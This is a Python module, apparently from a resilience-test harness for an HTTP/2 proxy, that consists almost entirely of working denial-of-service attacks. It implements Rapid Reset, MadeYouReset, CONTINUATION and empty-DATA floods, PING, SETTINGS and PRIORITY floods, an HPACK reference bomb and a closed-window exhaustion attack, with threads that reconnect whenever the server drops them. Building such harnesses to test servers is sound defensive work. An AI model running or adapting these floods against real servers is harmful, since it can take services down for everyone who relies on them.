"""Attacks by HTTP/2. Each keeps a few connections busy and connects anew as soon as it is sent away."""
import collections
import contextlib
import dataclasses
import multiprocessing
import socket
import threading
import time

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, PRIORITY, RESET,
                   SETTINGS, WINDOW, Line, frame, request)

LINES = 4
BATCH = 100
STREAMS = 20_000  # on one connection, then a new one


def rapid_reset(proxy, in_place, over):
    """CVE-2023-44487: a request and its cancellation, again and again."""
    head, cancel = request(proxy.token), (8).to_bytes(4, "big")
    return flood(proxy, in_place, over, lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, head)
                 + frame(RESET, 0, stream, cancel))


def made_you_reset(proxy, in_place, over):
    """CVE-2025-8671: a mistake that makes the server reset the request."""
    head = request(proxy.token)
    return flood(proxy, in_place, over, lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, head)
                 + frame(WINDOW, 0, stream, bytes(4)))


def continuation(proxy, in_place, over):
    """RUSTSEC-2024-0332: a head that does not end, in empty pieces."""
    return repeat(proxy, in_place, over, frame(HEADERS, 0, 1, request(proxy.token)), frame(CONTINUATION, 0, 1))


def long_continuation(proxy, in_place, over):
    """The same in pieces of 8 kB that begin a field and do not end it."""
    piece = frame(CONTINUATION, 0, 1, b"\x00\x7f\x80\x80\x01" + bytes(8000))
    return repeat(proxy, in_place, over, frame(HEADERS, 0, 1, request(proxy.token)), piece)


def empty_data(proxy, in_place, over):
    """RUSTSEC-2026-0258: an upload of empty pieces."""
    head = frame(HEADERS, END_HEADERS, 1, request(proxy.token, b"/upload", b"POST"))
    return repeat(proxy, in_place, over, head, frame(DATA, 0, 1))


def pings(proxy, in_place, over):
    return repeat(proxy, in_place, over, b"", frame(PING, 0, 0, b"12345678"))


def settings(proxy, in_place, over):
    return repeat(proxy, in_place, over, b"", frame(SETTINGS))


def priorities(proxy, in_place, over):
    return repeat(proxy, in_place, over, b"", frame(PRIORITY, 0, 3, bytes(4) + b"\x10"))


def unknown(proxy, in_place, over):
    return repeat(proxy, in_place, over, b"", frame(0x42, 0, 0, b"what?"))


def hpack_bomb(references):
    """An empty field that is put into the table and named many times, on streams that may not answer."""
    def attack(proxy, in_place, over):
        field = b"\x40\x01a\x00"
        head = request(proxy.token, b"/", more=field + b"\xbe" * references)
        lines = [Line(proxy.port, INITIAL_WINDOW.to_bytes(2, "big") + bytes(4)) for _ in range(10)]
        for stream in range(1, 200, 2):
            for line in lines:
                line.send(whole(stream, head))
        return hold(lines, in_place, over)
    return attack


def closed_window(proxy, in_place, over):
    """CVE-2019-9517: a thousand large responses whose client takes nothing of them."""
    head = request(proxy.token, b"/large")
    lines = [Line(proxy.port, INITIAL_WINDOW.to_bytes(2, "big") + bytes(4)) for _ in range(10)]
    for stream in range(1, 200, 2):
        for line in lines:
            line.send(whole(stream, head))
    return hold(lines, in_place, over)


def forget(listener):
    """Reads four megabytes of whoever comes, and lets them go."""
    while True:
        line, _ = listener.accept()
        with line, contextlib.suppress(OSError):
            taken = 0
            while taken < 4 << 20 and (piece := line.recv(16_384)):
                taken += len(piece)


def whole(stream, head):
    """A head in as many frames as it takes."""
    pieces = [head[at:at + 16_000] for at in range(0, len(head), 16_000)]
    frames = [frame(CONTINUATION, 0, stream, piece) for piece in pieces]
    frames[0] = frame(HEADERS, END_STREAM, stream, pieces[0])
    last = CONTINUATION if len(pieces) > 1 else HEADERS
    frames[-1] = frame(last, END_HEADERS | (END_STREAM if last == HEADERS else 0), stream, pieces[-1])
    return b"".join(frames)


def hold(lines, in_place, over):
    in_place.set()
    while not over.wait(0.2):
        for line in lines:
            line.listen()
    for line in lines:
        line.close()
    return words(sum((line.told for line in lines), collections.Counter()), len(lines), 0)


def elsewhere(proxy, in_place, over):
    """No attack: the bytes of a rapid reset, to somebody who reads and forgets them. What an honest
    client notices of it is what attackers cost by sharing the machine."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=64)
    sink = multiprocessing.Process(target=forget, args=(listener,))
    sink.start()
    try:
        return rapid_reset(dataclasses.replace(proxy, port=listener.getsockname()[1]), in_place, over)
    finally:
        sink.kill()
        sink.join()


def flood(proxy, in_place, over, frames_of):
    """A batch of streams after the other."""
    batches = [b"".join(map(frames_of, range(first, first + 2 * BATCH, 2)))
               for first in range(1, 2 * STREAMS, 2 * BATCH)]
    return together(proxy, in_place, over, lambda line: iter(batches), BATCH)


def repeat(proxy, in_place, over, first, piece):
    """The same frame without end."""
    def of(line):
        if first:
            yield first
        batch = piece * BATCH
        while True:
            yield batch
    return together(proxy, in_place, over, of, BATCH)


def together(proxy, in_place, over, batches_of, size):
    told, lock, counts = collections.Counter(), threading.Lock(), [0, 0]

    def attack():
        while not over.is_set():
            try:
                line = Line(proxy.port)
            except OSError:
                time.sleep(0.01)
                continue
            sent = 0
            for batch in batches_of(line):
                if over.is_set() or not line.send(batch):
                    break
                sent += size
            line.close()
            with lock:
                told.update(line.told)
                counts[0] += 1
                counts[1] += sent

    threads = [threading.Thread(target=attack) for _ in range(LINES)]
    for thread in threads:
        thread.start()
    in_place.set()
    for thread in threads:
        thread.join()
    return words(told, *counts)


def words(told, lines, sent):
    said = ", ".join("%s x%d" % pair for pair in told.most_common(4)) or "nothing"
    each = "; %d frames or pairs on each" % (sent / lines) if sent else ""
    return "%d connections%s: %s" % (lines, each, said)
